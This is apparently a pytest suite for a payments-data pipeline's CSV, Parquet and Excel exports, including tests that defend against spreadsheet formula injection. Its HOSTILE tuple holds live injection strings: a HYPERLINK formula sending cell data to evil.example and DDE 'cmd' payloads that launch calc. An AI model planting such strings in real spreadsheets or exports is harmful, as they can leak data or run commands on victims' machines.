"""Exports: numbers stay numbers, nothing that publishers wrote becomes a formula, the package validates."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.exports import THEMES, Exported, export_build
from pipeline.exports import files as export_files
from pipeline.exports import workbook as export_workbook
from pipeline.exports.files import tables_of
from pipeline.exports.whole import LostRowsError
from pipeline.exports.workbook import write_workbook
from pipeline.refresh import Summary
from pipeline.schema import Table, all_tables, table
from pipeline.settings import Settings

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+44 1234 5678 Ltd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    '<script>alert("x")</script>, "Quoted" & Sons\nSecond line',
    "http://example.org/ Ltd",
)


@pytest.fixture(scope="module")
def database(
    demo_build: tuple[Settings, Summary], tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """The published database with a few payments whose suppliers have hostile names."""
    path = tmp_path_factory.mktemp("hostile") / "fivepercent.duckdb"
    shutil.copyfile((demo_build[0].out / "fivepercent.duckdb").resolve(), path)
    connection = duckdb.connect(str(path))
    for number, name in enumerate(HOSTILE):
        connection.execute(
            "insert into facts.payment by name select * replace (? as supplier, ? as supplier_canonical, -1234.56 as"
            " amount_gbp, 'yes' as digital, 'hostile.csv' as source_file, ?::bigint as source_row)"
            " from facts.payment order by source_file, source_row limit 1",
            [name, name, number + 1],
        )
    connection.close()
    return path


@pytest.fixture(scope="module")
def exported(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Exported:
    return export_build(database, tmp_path_factory.mktemp("exports") / "exports")


def test_every_table_is_in_one_workbook_and_has_its_files(exported: Exported) -> None:
    placed = [name for theme in THEMES for name in tables_of(theme)]
    assert sorted(placed) == sorted(all_tables())
    wanted = {f"excel/fivepercent_{theme}.xlsx" for theme in THEMES}
    wanted |= {f"{kind}/{name}.{kind}" for kind in ("csv", "parquet") for name in all_tables()}
    assert set(exported.files) == wanted | {"datapackage.json"}


def test_no_cell_of_any_workbook_is_a_formula_or_a_link(exported: Exported) -> None:
    cells = 0
    for path in (exported.folder / "excel").glob("*.xlsx"):
        book = openpyxl.load_workbook(path, read_only=True)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        cells += 1
                        assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
        book.close()
    assert cells > 10_000


def test_hostile_names_are_text_and_amounts_are_numbers(exported: Exported) -> None:
    book = openpyxl.load_workbook(exported.folder / "excel" / "fivepercent_payments.xlsx")
    sheet = book["facts.payment"]
    head = {cell.value: i for i, cell in enumerate(sheet[1])}
    rows = [r for r in sheet.iter_rows(min_row=2) if r[head["source_file"]].value == "hostile.csv"]
    assert {r[head["supplier"]].value for r in rows} == set(HOSTILE)
    for row in rows:
        supplier, amount = row[head["supplier"]], row[head["amount_gbp"]]
        assert supplier.data_type == "s"
        assert supplier.hyperlink is None
        assert (amount.value, amount.data_type) == (-1234.56, "n")
        assert row[head["month"]].is_date
        assert isinstance(row[head["is_duplicate"]].value, bool)
        # Excel keeps it as text even when somebody edits the cell
        assert bool(supplier.quotePrefix) == supplier.value.lstrip().startswith(
            ("=", "+", "-", "@")
        )


def test_a_workbook_has_cover_caveats_and_dictionary(exported: Exported) -> None:
    book = openpyxl.load_workbook(exported.folder / "excel" / "fivepercent_answer.xlsx")
    assert book.sheetnames[:3] == ["Read me", "Caveats", "Dictionary"]
    assert [n[:31] for n in tables_of("answer")] == book.sheetnames[3:]
    cover = {row[0].value: row[1].value for row in book["Read me"].iter_rows(min_row=2)}
    assert cover["Notice"].startswith("DEMONSTRATION")
    assert cover["Cite as"].endswith(cover["Build"])
    meanings = {
        (row[0].value, row[1].value): row[4].value
        for row in book["Dictionary"].iter_rows(min_row=2)
    }
    assert set(meanings) == {(n, c.name) for n in tables_of("answer") for c in table(n).columns}
    upper = meanings["marts.digital_share", "share_upper"]
    assert upper == table("marts.digital_share").column("share_upper").comment
    warned = {row[0].value for row in book["Caveats"].iter_rows(min_row=2)}
    assert "marts.digital_share" in warned


def test_parquet_and_csv_hold_what_the_database_holds(database: Path, exported: Exported) -> None:
    connection = duckdb.connect(str(database), read_only=True)
    for name in all_tables():
        inside = connection.execute(f"select * from {name} order by all").fetchall()
        path = exported.folder / "parquet" / f"{name}.parquet"
        assert duckdb.sql(f"select * from '{path}' order by all").fetchall() == inside, name
        with (exported.folder / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            assert sum(1 for _ in csv.reader(file)) == len(inside) + 1
    connection.close()


def test_text_that_starts_a_formula_has_an_apostrophe_in_csv_and_numbers_have_none(
    exported: Exported,
) -> None:
    with (exported.folder / "csv" / "facts.payment.csv").open(encoding="utf-8", newline="") as file:
        rows = [r for r in csv.DictReader(file) if r["source_file"] == "hostile.csv"]
    assert {r["amount_gbp"] for r in rows} == {"-1234.56"}
    told = {r["supplier"] for r in rows}
    assert told == {n if n.startswith(("<", "http")) else f"'{n}" for n in HOSTILE}


def test_the_data_package_is_valid_for_its_own_library_down_to_the_cells(
    exported: Exported,
) -> None:
    from frictionless import Package, Resource, system

    descriptor = json.loads((exported.folder / "datapackage.json").read_text(encoding="utf-8"))
    report = Package.validate_descriptor(descriptor)
    assert report.valid, report.flatten(["type", "note"])
    for resource in descriptor["resources"]:
        content = (exported.folder / resource["path"]).read_bytes()
        assert resource["bytes"] == len(content)
        assert resource["hash"] == f"sha256:{hashlib.sha256(content).hexdigest()}"
    whole = [r for r in descriptor["resources"] if r["format"] == "csv" and r["bytes"] < 400_000]
    assert len(whole) > 35
    with system.use_context(trusted=True):
        for resource in whole:
            checked = Resource.from_descriptor(resource, basepath=str(exported.folder)).validate()
            assert checked.valid, (resource["path"], checked.flatten(["type", "note"])[:3])


def test_a_demonstration_claims_no_licence(exported: Exported) -> None:
    descriptor = json.loads((exported.folder / "datapackage.json").read_text(encoding="utf-8"))
    assert "licenses" not in descriptor
    assert descriptor["name"].endswith("demonstration")


def test_a_workbook_that_cannot_hold_all_rows_says_so_and_puts_digital_first(
    database: Path, tmp_path: Path
) -> None:
    connection = duckdb.connect(str(database), read_only=True)
    path = tmp_path / "part.xlsx"
    (sentence,) = write_workbook(connection, path, [table("facts.payment")], most_rows=50)
    connection.close()
    assert "first 50" in sentence
    book = openpyxl.load_workbook(path)
    sheet = book["facts.payment"]
    assert sheet.max_row == 51
    column = [c.value for c in sheet[1]].index("digital")
    assert "no" not in {row[column].value for row in sheet.iter_rows(min_row=2)}
    assert sentence in {row[1].value for row in book["Read me"].iter_rows()}


def test_an_export_replaces_an_earlier_one_and_nothing_else(database: Path, tmp_path: Path) -> None:
    target = tmp_path / "exports"
    export_build(database, target, formats=["parquet"])
    (target / "parquet" / "stale.parquet").write_bytes(b"old")
    export_build(database, target, formats=["parquet"])
    assert not (target / "parquet" / "stale.parquet").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["exports"]
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("do not delete")
    with pytest.raises(FileExistsError, match="not empty"):
        export_build(database, mine)
    assert (mine / "thesis.txt").exists()
    with pytest.raises(ValueError, match="no format xml"):
        export_build(database, tmp_path / "x", formats=["xml"])


def test_an_export_keeps_the_formats_of_an_earlier_one_and_files_of_others(
    database: Path, tmp_path: Path
) -> None:
    target = tmp_path / "exports"
    export_build(database, target, formats=["csv"])
    export_build(database, target, formats=["parquet"])
    assert sorted(p.name for p in target.iterdir()) == ["csv", "datapackage.json", "parquet"]
    assert (target / "csv" / "marts.digital_share.csv").exists()
    (target / ".DS_Store").write_bytes(b"")
    export_build(database, target, formats=["parquet"])
    (target / "my analysis.xlsx").write_bytes(b"mine")
    with pytest.raises(FileExistsError, match=r"no export wrote \(my analysis\.xlsx\)"):
        export_build(database, target, formats=["csv"])
    assert (target / "my analysis.xlsx").exists()


def test_the_command_exports_what_is_published(
    demo_build: tuple[Settings, Summary], tmp_path: Path
) -> None:
    done = CliRunner().invoke(
        app, ["export", "--csv", "--out", str(demo_build[0].out), "--to", str(tmp_path / "e")]
    )
    assert done.exit_code == 0, done.output
    shares = pl.read_csv(tmp_path / "e" / "csv" / "marts.digital_share.csv")
    assert shares.height == demo_build[1].tables["marts.digital_share"]
    assert not (tmp_path / "e" / "excel").exists()
    missing = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "nothing")])
    assert missing.exit_code == 1


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_a_row_dropped_on_the_way_into_a_file_stops_the_export(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    whole = export_files.rows_in_order

    def one_short(of: Table, kind: str) -> str:
        query = whole(of, kind)
        return f"{query} offset 1" if of.full_name == "marts.spend_mix" else query

    monkeypatch.setattr(export_files, "rows_in_order", one_short)
    with pytest.raises(LostRowsError, match=rf"marts\.spend_mix\.{kind} holds"):
        export_build(database, tmp_path / "exports", formats=[kind])
    assert not list(tmp_path.iterdir())  # neither the export nor what was half written


def test_a_row_dropped_on_the_way_into_a_workbook_stops_the_export(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = export_workbook._Sheets.write

    def one_short(self, name, columns, rows) -> int:
        held = rows if isinstance(rows, list) else rows.fetchall()
        return whole(self, name, columns, held[1:] if name == "marts.spend_mix" else held)

    monkeypatch.setattr(export_workbook._Sheets, "write", one_short)
    with pytest.raises(LostRowsError, match=r"sheet marts\.spend_mix holds"):
        export_build(database, tmp_path / "exports", formats=["excel"])
    assert not list(tmp_path.iterdir())
